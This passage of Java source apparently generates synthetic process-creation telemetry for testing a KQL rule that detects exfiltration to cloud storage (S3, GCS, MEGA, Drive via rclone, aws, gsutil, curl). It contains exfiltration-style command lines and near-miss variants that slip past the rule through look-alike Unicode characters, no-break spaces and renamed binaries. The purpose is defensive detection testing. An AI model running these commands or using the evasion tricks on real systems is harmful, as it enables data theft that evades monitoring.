                image("cmd.exe", "C:\\Windows\\System32\\cmd.exe");
                cmd.append("cmd.exe /c aws ſ3 sync C:\\Users\\").append(p).append("\\Documents s3://").append(bucket())
                        .append(" --quiet");
                parent("explorer.exe", "userinit.exe");
                return CLOUD_SYNC_TOOL;
            case 100: // gsutil in CI (a documented false positive)
                image("gsutil", "/usr/lib/google-cloud-sdk/bin/gsutil");
                cmd.append("gsutil -m rsync -r -d /builds/").append(pick(r, PROJECTS)).append("/dist gs://").append(bucket())
                        .append("/releases/").append(1 + r.nextInt(9)).append('.').append(r.nextInt(30));
                parent("bash", "gitlab-runner");
                return CLOUD_SYNC_TOOL;
            case 101: // static site deploy (documented false positive)
                image("aws", "/usr/local/bin/aws");
                cmd.append("aws s3 sync ./build s3://").append(bucket()).append(" --delete --profile=")
                        .append(pick(r, PROJECTS));
                parent("bash", "sshd");
                return CLOUD_SYNC_TOOL;
            case 102: // rclone backup to Google Drive (documented false positive) or from an Atomic test
                image("rclone", "/usr/bin/rclone");
                cmd.append(r.nextBoolean()
                        ? "rclone copy --update --verbose --transfers 30 --checkers 8 --contimeout 60s --timeout 300s"
                            + " --retries 3 --low-level-retries 10 --stats 1s \"/home/" + dev.user.login + "/db-backup\" \"gdrive:backup-"
                            + r.nextInt(100) + "\""
                        : "./rclone copy --max-size 1700k \"/tmp/.x/data/\" exfils3:" + bucket() + " --config \"/tmp/.x/rclone.conf\"");
                parent("bash", "cron");
                return CLOUD_SYNC_TOOL;
            case 103: // megatools (RedCurl)
                image(r.nextBoolean() ? "megatools" : "megaput", "/usr/bin/megatools");
                cmd.append(fileName.equals("megatools") ? "megatools put --path /Root/" : "megaput --path /Root/")
                        .append(pick(r, BUCKET_WORDS)).append(" /var/tmp/").append(pick(r, BUCKET_WORDS)).append(".tar.gz --no-progress");
                parent("sh", "sshd");
                return CLOUD_SYNC_TOOL;
            case 104: // python upload to Drive
                image("python3", "/usr/bin/python3.12");
                cmd.append("python3 /tmp/.cache/sync.py --upload /home/").append(dev.user.login).append("/exports/")
                        .append(pick(r, BUCKET_WORDS)).append(".csv --endpoint https://www.googleapis.com/upload/drive/v3/files?uploadType=multipart");
                parent("bash", "sshd");
                return CLOUD_API_UPLOAD;
            case 105: // wget -t (retries) matches "-T " case-insensitively: a documented false positive
                image("wget", "/usr/bin/wget");
                cmd.append("wget -t 3 -q https://storage.googleapis.com/").append(bucket()).append("/models/")
                        .append(pick(r, BUCKET_WORDS)).append(".bin -O /opt/models/model.bin");
                parent("bash", "cron");
                return CLOUD_API_UPLOAD;
            case 106: // curl PUT to S3 through the listed endpoint
                image("curl", "/usr/bin/curl");
                cmd.append("curl -s -X PUT -T /var/backups/").append(pick(r, PROJECTS)).append(".sql.gz https://s3.amazonaws.com/")
                        .append(bucket()).append("/db/").append(r.nextInt(100000)).append(".sql.gz");
                parent("bash", "cron");
                return CLOUD_API_UPLOAD;
            default: // 107: dotless i folds to i: has "gsutil rsync"
                image("sh", "/bin/sh");
                cmd.append("/bin/sh -c \"gsutıl rsync -r /srv/exports gs://").append(bucket()).append("\"");
                parent("cron", "systemd");
                return CLOUD_SYNC_TOOL;
        }
    }

    // ---------------------------------------------------------------------------------------------
    // Near misses: rows that resemble hits but that KQL's has/in~ do not match (rule R1).

    private void nearMiss(Fleet.Device dev) {
        randomHashes = true;
        String p = user(dev);
        switch (r.nextInt(20)) {
            case 0: // 'notdropbox.com': 't' before 'd' is a term character
                image("curl.exe", "C:\\Windows\\System32\\curl.exe");
                cmd.append("curl.exe -X POST --data-binary @C:\\Users\\").append(p).append("\\report.zip https://notdropbox.com/upload");
                parent("cmd.exe", "explorer.exe");
                break;
            case 1: // 'myrclone.exe', 'remote:s3bucket'
                image("myrclone.exe", "C:\\Users\\" + p + "\\Tools\\myrclone.exe");
                cmd.append("myrclone.exe copy C:\\Share remote:s3bucket --transfers 4");
                parent("cmd.exe", "explorer.exe");
                break;
            case 2: // 'omega:' is not 'mega:'
                image("powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe");
                cmd.append("powershell.exe -c \"Copy-Item C:\\Data\\* -Destination omega:\\archive -Recurse\"");
                parent("explorer.exe", "userinit.exe");
                break;
            case 3: // full-width letters are other characters
                image("cmd.exe", "C:\\Windows\\System32\\cmd.exe");
                cmd.append("cmd.exe /c ｒｃｌｏｎｅ copy C:\\Users\\").append(p).append("\\Documents remote:archive");
                parent("explorer.exe", "userinit.exe");
                break;
            case 4: // Cyrillic 'ж' is a term character: 'rcloneж' is one term
                image("rcloneж.exe", "C:\\Users\\" + p + "\\AppData\\Local\\Temp\\rcloneж.exe");
                cmd.append("rcloneж.exe copy C:\\Data remote:backup --transfers 4 --checkers 8");
                parent("cmd.exe", "explorer.exe");
                break;
            case 5: // a digit continues the term
                image("rclone2.exe", "C:\\Tools\\rclone2.exe");
                cmd.append("rclone2.exe copy C:\\Users\\").append(p).append("\\Documents remote:bak --transfers 8");
                parent("cmd.exe", "explorer.exe");
                break;
            case 6: // MEGAcmdServer: 'megacmd' followed by 'S'
                image("MEGAcmdServer.exe", "C:\\Users\\" + p + "\\AppData\\Local\\MEGAcmd\\MEGAcmdServer.exe");
                cmd.append("\"C:\\Users\\").append(p).append("\\AppData\\Local\\MEGAcmd\\MEGAcmdServer.exe\" --skip-lock-check");
                parent("explorer.exe", "userinit.exe");
                break;
            case 7: // python3.11 is not in the in~ list
                image("python3.11", "/usr/bin/python3.11");
                cmd.append("python3.11 upload.py --file /tmp/x.tar https://www.googleapis.com/upload/drive/v3/files");
                parent("bash", "sshd");
                break;
            case 8: // a download from cloud storage: no upload indicator
                image("curl.exe", "C:\\Windows\\System32\\curl.exe");
                cmd.append("curl.exe -sSL https://storage.googleapis.com/golang/go1.23.4.windows-amd64.zip -o C:\\Users\\")
                        .append(p).append("\\Downloads\\go.zip");
                parent("powershell.exe", "explorer.exe");
                break;
            case 9: // 'graph.microsoft.community': 'm' continues the term
                image("powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe");
                cmd.append("powershell.exe -c \"Invoke-WebRequest -Uri https://graph.microsoft.community/forum/post -Method POST -Body $b\"");
                parent("explorer.exe", "userinit.exe");
                break;
            case 10: // regional S3 endpoint, not in the list
                image("curl", "/usr/bin/curl");
                cmd.append("curl -X PUT -T /tmp/db.gz https://s3.us-west-2.amazonaws.com/").append(bucket()).append("/db.gz");
                parent("bash", "cron");
                break;
            case 11: // 'dropbox:' and ':dropboxbackup' are not ':dropbox'
                image("cmd.exe", "C:\\Windows\\System32\\cmd.exe");
                cmd.append("cmd.exe /c copy C:\\Data\\q3.xlsx dropbox:backup && copy C:\\Data\\q4.xlsx remote:dropboxbackup");
                parent("explorer.exe", "userinit.exe");
                break;
            case 12: // a quoted aws.exe path breaks "aws s3 cp"
                image("aws.exe", "C:\\Program Files\\Amazon\\AWSCLIV2\\aws.exe");
                cmd.append("\"C:\\Program Files\\Amazon\\AWSCLIV2\\aws.exe\" s3 cp D:\\Exports\\x.zip s3://").append(bucket()).append("/");
                parent("cmd.exe", "explorer.exe");
                break;
            case 13: // no-break space is not a space
                image("cmd.exe", "C:\\Windows\\System32\\cmd.exe");
                cmd.append("C:\\Windows\\system32\\cmd.exe /c rclone\u00a0copy C:\\Data remote:nbsp");
                parent("explorer.exe", "userinit.exe");
                break;
            case 14: // requests.put: no listed upload indicator
                image("python.exe", "C:\\Python312\\python.exe");
                cmd.append("python.exe -c \"import requests;requests.put('https://s3.amazonaws.com/").append(bucket())
                        .append("/x.zip', data=open(r'C:\\Temp\\x.zip','rb'))\"");
                parent("cmd.exe", "explorer.exe");
                break;
            case 15: // installing gsutil is not running it
                image("python3", "/usr/bin/python3.12");
                cmd.append("/usr/bin/python3 -m pip install --user --upgrade gsutil crcmod");
                parent("bash", "sshd");
                break;
            case 16: // editing rclone.conf
                image("notepad.exe", "C:\\Windows\\System32\\notepad.exe");
                cmd.append("\"C:\\Windows\\system32\\NOTEPAD.EXE\" C:\\Users\\").append(p).append("\\AppData\\Roaming\\rclone\\rclone.conf");
                parent("explorer.exe", "userinit.exe");
                break;
            case 17: // 'rclone.exe copy' is not "rclone copy", and the remote has no listed prefix
                image("svchost.exe", "C:\\Windows\\svchost.exe");
                cmd.append("svchost.exe --config svchost.conf copy \"\\\\").append(pick(r, FILE_SERVERS))
                        .append("\\C$\\Share\" ftp1:/corp/FILES/C/Share");
                parent("cmd.exe", "services.exe");
                break;
            case 18: // 'mega.nzb' is not 'mega.nz'; the domain is outside the in~ binary anyway
                image("curl.exe", "C:\\Windows\\System32\\curl.exe");
                cmd.append("curl.exe -F file=@C:\\Users\\").append(p).append("\\x.zip https://mega.nzb.example/upload");
                parent("cmd.exe", "explorer.exe");
                break;
            default: // an accented path and an upload to a storage host outside the list
                image("pwsh.exe", "C:\\Program Files\\PowerShell\\7\\pwsh.exe");
                cmd.append("pwsh.exe -c \"Invoke-RestMethod -Uri https://userstorage.mega.co.nz/up -Method Post -InFile ")
                        .append("'C:\\Users\\Jérôme\\Documents\\Présentation Q3.pptx'\"");
                parent("explorer.exe", "userinit.exe");
        }
    }
}
